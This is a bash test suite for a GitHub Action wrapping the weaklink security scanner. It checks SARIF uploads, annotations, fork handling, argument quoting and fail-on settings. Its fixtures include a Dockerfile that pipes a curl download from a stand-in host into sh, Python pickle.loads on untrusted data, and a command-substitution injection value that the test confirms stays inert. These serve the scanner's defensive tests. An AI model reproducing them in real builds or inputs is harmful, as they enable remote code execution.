#!/usr/bin/env bash
# action.sh BIN - the GitHub Action's script (action/run.sh) under a simulated
# runner: GITHUB_OUTPUT, GITHUB_STEP_SUMMARY, RUNNER_TEMP, GITHUB_WORKSPACE (a
# throw-away repository with findings), GITHUB_EVENT_PATH (push, a pull
# request, a pull request from a fork). WEAKLINK_BIN=BIN: no build.
# Checks outputs (counts, exit code, unique SARIF path), the job summary, the
# annotations, the upload decision, the args splitting (quotes, no code
# execution), that the repository's fail_on decides when fail-on is empty,
# and what the pull-request mode does with this weaklink.
set -u
W=$(readlink -f "$1")
ROOT=$(cd "$(dirname "$0")/../.." && pwd -P)
T=$(mktemp -d /tmp/wl-action.XXXXXX)
trap 'rm -rf "$T"' EXIT
ws=$T/ws
mkdir -p "$ws/vendor" "$T/tmp"
git init -q "$ws"
printf 'import pickle\nobj = pickle.loads(blob)\n' >"$ws/app.py"
printf 'import pickle\nobj = pickle.loads(blob)\n' >"$ws/vendor/lib.py"
printf 'FROM scratch\nRUN curl -sSL https://x.example/i.sh | sh\n' >"$ws/Dockerfile"
printf '[scan]\nfail_on = "error"\n' >"$ws/.weaklink.toml"
(cd "$ws" && git add . && git -c user.name=t -c user.email=t@e.invalid commit -qm init)
base_sha=$(git -C "$ws" rev-parse HEAD)

cat >"$T/push.json" <<JSON
{"ref": "refs/heads/main", "repository": {"full_name": "acme/models"}}
JSON
cat >"$T/pr.json" <<JSON
{"number": 7, "pull_request": {"base": {"sha": "$base_sha", "ref": "main"},
 "head": {"sha": "$base_sha", "repo": {"full_name": "acme/models"}}}}
JSON
cat >"$T/fork.json" <<JSON
{"number": 8, "pull_request": {"base": {"sha": "$base_sha", "ref": "main"},
 "head": {"sha": "$base_sha", "repo": {"full_name": "mallory/models"}}}}
JSON

# run NAME EVENT_NAME EVENT_FILE [VAR=value...]: the scan step, as the runner runs it
run() {
  local name=$1 ev=$2 evf=$3; shift 3
  : >"$T/$name.out"; : >"$T/$name.sum"
  env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME="$T" \
    GITHUB_ACTIONS=true GITHUB_WORKSPACE="$ws" RUNNER_TEMP="$T/tmp" \
    GITHUB_OUTPUT="$T/$name.out" GITHUB_STEP_SUMMARY="$T/$name.sum" \
    GITHUB_EVENT_NAME="$ev" GITHUB_EVENT_PATH="$T/$evf" GITHUB_REPOSITORY=acme/models \
    GITHUB_ACTOR=alice WEAKLINK_BIN="$W" \
    WL_PATH=. WL_CATEGORY=weaklink WL_UPLOAD=auto WL_ANNOTATIONS=auto WL_DIFF=auto WL_FAIL_ON= WL_CONFIG= WL_ARGS= \
    "$@" bash "$ROOT/action/run.sh" scan >"$T/$name.log" 2>&1
  echo $? >"$T/$name.rc"
}
o() { sed -n "s/^$2=//p" "$T/$1.out" | tail -1; }
check() { # check NAME DESCRIPTION TEST...
  local n=$1 d=$2; shift 2
  if "$@"; then echo "PASS action/$n"; else echo "FAIL action/$n: $d"; sed 's/^/    /' "$T/${n%%/*}.log" | tail -15; fi
}

run push push push.json
check push/outputs "counts, exit code" test "$(o push errors) $(o push warnings) $(o push notes) $(o push total) $(o push exit-code) $(cat "$T/push.rc")" = "1 2 0 3 1 0"
check push/upload "a push on the repository itself uploads" test "$(o push upload)" = true
check push/sarif "the SARIF path exists, under RUNNER_TEMP" test -s "$(o push sarif)" -a "${T}/tmp" = "$(dirname "$(dirname "$(o push sarif)")")"
check push/no-annotations "annotations only when the SARIF is not uploaded (auto)" bash -c "! grep -q '^::error file=' '$T/push.log'"
check push/summary "markdown summary with counts and linked rules" bash -c "grep -q '^## weaklink: 1 error, 2 warnings' '$T/push.sum' && grep -q 'docs/rules.md#wl203' '$T/push.sum'"
check push/report "the text report is in the log" grep -q 'WL203' "$T/push.log"
check push/no-diff "no diff mode outside pull requests" test "$(o push diff-mode)" = false

run pr pull_request pr.json
check pr/sarif-unique "two steps, two SARIF paths" test "$(o pr sarif)" != "$(o push sarif)"
if "$W" help scan 2>&1 | grep -q -- --diff-base; then
  check pr/diff-mode "diff mode on a pull request" test "$(o pr diff-mode)" = true
  # a partial scan uploaded would show every alert it did not look at as fixed
  check pr/no-upload-in-diff-mode "a diff scan is not uploaded; annotations and the summary instead" \
    bash -c "test '$(o pr upload)' = false && grep -q 'a partial SARIF would show other alerts as fixed' '$T/pr.log'"
  run prfull pull_request pr.json WL_DIFF=false GITHUB_BASE_REF="$(git -C "$ws" branch --show-current)"
  check prfull/upload "a full scan of a pull request from a branch of the repository uploads" test "$(o prfull upload)" = true
  check prfull/full-scan "diff: false makes weaklink scan everything (it would turn to a diff scan by itself)" \
    bash -c "test '$(o prfull diff-mode)' = false && test '$(o prfull total)' = 3"
else
  check pr/upload "a pull request from a branch of the repository uploads" test "$(o pr upload)" = true
  check pr/diff-fallback "without --diff-base: full scan, said in the log and the summary" \
    bash -c "test '$(o pr diff-mode)' = false && grep -q '::notice title=weaklink::this weaklink has no --diff-base yet' '$T/pr.log' && grep -q 'no --diff-base yet' '$T/pr.sum'"
fi
run prnodiff pull_request pr.json WL_DIFF=false
check prnodiff/quiet "diff: false says nothing about diff mode" bash -c "! grep -q 'diff-base' '$T/prnodiff.log'"

run fork pull_request fork.json WL_DIFF=false  # a full scan: base = head would leave no finding to annotate
check fork/no-upload "a fork's pull request does not upload (read-only token)" test "$(o fork upload)" = false
check fork/annotations "annotations instead, most severe first" \
  bash -c "head -1 <(grep '^::' '$T/fork.log' | grep -v '^::notice') | grep -q '^::error file=Dockerfile,line=2,' && grep -q '^::warning file=app.py,line=2,.*title=WL203 unsafe-deserialization::' '$T/fork.log'"
check fork/summary-says-why "the summary says why the SARIF was not uploaded" grep -q 'not uploaded to code scanning: pull request from a fork (mallory/models)' "$T/fork.sum"

run noup push push.json WL_UPLOAD=false
check noup/annotations "upload: false gives annotations" bash -c "test '$(o noup upload)' = false && grep -q '^::error file=Dockerfile' '$T/noup.log'"
run dependabot pull_request pr.json GITHUB_ACTOR='dependabot[bot]'
check dependabot/no-upload "Dependabot's read-only token: no upload" test "$(o dependabot upload)" = false

# args: shell quoting rules; the quotes do not reach weaklink; nothing runs
run args push push.json "WL_ARGS=--exclude 'vendor/**' --exclude \"\$(touch $T/pwned)\" --disable \"WL502\""
check args/quoted-glob "--exclude 'vendor/**' excludes vendor/ (2 -> 1 warning)" test "$(o args warnings)" = 1
check args/no-execution "\$(...) in args stays a literal word" test ! -e "$T/pwned"
run badargs push push.json "WL_ARGS=--exclude 'vendor/**"
check badargs/refused "unbalanced quotes: a clear error, exit 2" bash -c "test \$(cat '$T/badargs.rc') = 2 && grep -q '^::error title=weaklink::the args input is not valid shell quoting' '$T/badargs.log'"

# fail-on: empty = the repository's fail_on ("error"): warnings alone pass
run cfg push push.json "WL_ARGS=--exclude Dockerfile"
check cfg/config-decides "no fail-on input: fail_on = \"error\" in .weaklink.toml lets warnings through" test "$(o cfg warnings) $(o cfg exit-code)" = "2 0"
run failon push push.json "WL_ARGS=--exclude Dockerfile" WL_FAIL_ON=warning
check failon/input-overrides "fail-on: warning overrides the config" test "$(o failon exit-code)" = 1
run cfgfile push push.json WL_CONFIG=/nonexistent.toml
check cfgfile/config-input "config: a missing file is an error (exit 2), not a silent default" test "$(o cfgfile exit-code)" = 2
